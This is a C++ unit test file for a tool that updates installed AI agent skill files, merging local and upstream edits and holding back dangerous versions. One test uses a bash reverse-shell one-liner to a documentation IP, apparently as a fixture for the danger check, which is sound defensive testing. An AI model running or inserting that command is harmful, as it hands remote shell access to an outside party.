#include "skills/install/tree_hash.h"
#include "skills/sync/put_skill.h"
#include "tests/unit/daemon_install_world.h"

using namespace upskill;
using tests::InstallWorld;
namespace fs = std::filesystem;

namespace {

constexpr const char* k_first = "# Demo\n\nfirst\n\nmiddle\n\nlast\n";

std::string document(const std::string& body) {
  return "---\nname: demo\ndescription: Shows how it is done.\n---\n" + body;
}

// A skill that was installed, and whose source can change.
struct UpdateWorld : InstallWorld {
  UpdateWorld() {
    offer("source/demo", k_first);
    REQUIRE(installed("./source/demo").state == InstallState::installed);
  }

  // As a person edits it, where one agent reads it.
  void edit(const std::string& body) {
    for (const char* root : {".claude/skills", ".agents/skills", ".codex/skills"}) {
      if (has(std::string(root) + "/demo")) {
        skills.file(std::string(root) + "/demo/SKILL.md", document(body));
      }
    }
  }

  std::string here() const { return text(".claude/skills/demo/SKILL.md"); }
};

UpdateParams only(const char* skill) {
  UpdateParams params;
  params.skill = {skill};
  return params;
}

} // namespace

TEST_SUITE("skill_update") {
  TEST_CASE("what is current is counted, and told where it was named") {
    UpdateWorld world;
    Result<UpdateResult> all = world.update();
    REQUIRE_MESSAGE(all, all.error().message);
    CHECK(all->skills.empty());
    CHECK(all->current == 1);
    CHECK_FALSE(all->any_new);
    CHECK(world.updated(only("demo")).state == UpdateState::current);
    Result<UpdateResult> unknown = world.update(only("demi"));
    REQUIRE_FALSE(unknown);
    CHECK(unknown.error().hint.find("demo") != std::string::npos);
  }

  TEST_CASE("a new version takes the place of one that was not edited, and says what it gains") {
    UpdateWorld world;
    world.offer("source/demo", "# Demo\n\n```sh\ncurl https://example.com/x\n```\n");
    UpdateParams check;
    check.check = true;
    Result<UpdateResult> checked = world.update(check);
    REQUIRE(checked);
    CHECK(checked->any_new);
    REQUIRE(checked->skills.size() == 1);
    CHECK(checked->skills[0].state == UpdateState::available);
    CHECK(checked->skills[0].changed == std::vector<std::string>{"SKILL.md"});
    CHECK(checked->skills[0].diff.find("-first\n") != std::string::npos);
    bool names_host = std::ranges::any_of(checked->skills[0].gains, [](const DangerGain& gain) {
      return gain.kind == "host" && gain.what.find("example.com") != std::string::npos;
    });
    CHECK(names_host);
    CHECK(world.here() == document(k_first));
    UpdatedSkill skill = world.updated();
    CHECK(skill.state == UpdateState::updated);
    CHECK(world.here() == world.text("source/demo/SKILL.md"));
    CHECK(world.row("demo")->base.hex() == skill.after);
    CHECK(world.update()->current == 1);
  }

  TEST_CASE("what was edited here only stays") {
    UpdateWorld world;
    std::string edited = std::string(k_first) + "mine\n";
    world.edit(edited);
    UpdatedSkill skill = world.updated();
    CHECK(skill.state == UpdateState::edited);
    CHECK(skill.edited);
    CHECK(world.here() == document(edited));
  }

  TEST_CASE("edits here and at the source are joined where they do not meet") {
    UpdateWorld world;
    world.edit("# Demo\n\nfirst of mine\n\nmiddle\n\nlast\n");
    world.offer("source/demo", "# Demo\n\nfirst\n\nmiddle\n\nlast of theirs\n");
    UpdatedSkill skill = world.updated();
    CHECK(skill.state == UpdateState::merged);
    CHECK(world.here() == document("# Demo\n\nfirst of mine\n\nmiddle\n\nlast of theirs\n"));
    CHECK(world.row("demo")->base.hex() == skill.after);
  }

  TEST_CASE("where both changed the same, what is here stays and the other waits") {
    UpdateWorld world;
    world.edit("# Demo\n\nmine\n\nmiddle\n\nlast\n");
    world.offer("source/demo", "# Demo\n\ntheirs\n\nmiddle\n\nlast\n");
    UpdatedSkill skill = world.updated();
    CHECK(skill.state == UpdateState::conflict);
    CHECK(skill.conflict);
    CHECK(world.here() == document("# Demo\n\nmine\n\nmiddle\n\nlast\n"));
    REQUIRE(world.row("demo")->held);
    CHECK(world.row("demo")->held->hex() == skill.after);
    CHECK(world.row("demo")->base != *world.row("demo")->held);
    CHECK(world.updated().state == UpdateState::conflict);
  }

  TEST_CASE("a person decides over edits") {
    UpdateWorld world;
    world.edit("# Demo\n\nmine\n\nmiddle\n\nlast\n");
    world.offer("source/demo", "# Demo\n\ntheirs\n\nmiddle\n\nlast\n");
    UpdateParams params;
    params.take = TakeSide::mine;
    CHECK(world.updated(params).state == UpdateState::edited);
    CHECK(world.here() == document("# Demo\n\nmine\n\nmiddle\n\nlast\n"));
    world.offer("source/demo", "# Demo\n\nnewer\n\nmiddle\n\nlast\n");
    params.take = TakeSide::theirs;
    CHECK(world.updated(params).state == UpdateState::updated);
    CHECK(world.here() == world.text("source/demo/SKILL.md"));
  }

  TEST_CASE("a new version that is dangerous waits") {
    UpdateWorld world;
    world.offer("source/demo", "```sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n```\n");
    UpdatedSkill skill = world.updated();
    CHECK(skill.state == UpdateState::dangerous);
    CHECK(world.here() == document(k_first));
    UpdateParams params;
    params.allow = {"demo@" + skill.after.substr(0, 12)};
    CHECK(world.updated(params).state == UpdateState::updated);
  }

  TEST_CASE("a source that is gone costs nobody else an update") {
    UpdateWorld world;
    world.offer("other/second", k_first);
    REQUIRE(world.installed("./other/second").state == InstallState::installed);
    fs::remove_all(world / "source");
    world.offer("other/second", "# New\n");
    Result<UpdateResult> result = world.update();
    REQUIRE_MESSAGE(result, result.error().message);
    REQUIRE(result->skills.size() == 2);
    CHECK(result->skills[0].state == UpdateState::failed); // it may only be unmounted
    CHECK(result->skills[1].state == UpdateState::updated);
    CHECK(world.here() == document(k_first));
  }

  TEST_CASE("what is not here any more is told, and not brought back") {
    UpdateWorld world;
    for (const char* root : {".claude/skills", ".agents/skills", ".codex/skills"}) {
      fs::remove_all(world / (std::string(root) + "/demo"));
    }
    CHECK(world.updated().state == UpdateState::missing);
    CHECK_FALSE(world.has(".claude/skills/demo"));
  }

  TEST_CASE("what npx skills has installed is updated, too") {
    UpdateWorld world;
    std::string hash = world.text(".agents/.skill-lock.json");
    fs::remove(world / ".local/share/upskill/installed.json");
    CHECK(world.update()->current == 1);
    world.offer("source/demo", "# New\n");
    UpdatedSkill skill = world.updated();
    CHECK(skill.state == UpdateState::updated);
    CHECK(world.here() == world.text("source/demo/SKILL.md"));
    CHECK(world.row("demo"));
    CHECK(world.text(".agents/.skill-lock.json") != hash);
  }

  TEST_CASE("a lock that has git's hash of the folder tells likewise that nothing was edited") {
    UpdateWorld world;
    auto placed = sync::read_placed(world / ".claude/skills/demo");
    REQUIRE((placed && *placed));
    std::string lock = world.text(".agents/.skill-lock.json");
    constexpr std::string_view k_key = "\"skillFolderHash\": \"";
    lock.replace(lock.find(k_key) + k_key.size(), 64, install::git_tree_hash((*placed)->files));
    world.skills.file(".agents/.skill-lock.json", lock);
    fs::remove(world / ".local/share/upskill/installed.json");
    world.offer("source/demo", "# New\n");
    UpdatedSkill skill = world.updated();
    CHECK_MESSAGE(skill.state == UpdateState::updated, skill.reason);
    CHECK(world.here() == world.text("source/demo/SKILL.md"));
  }
}
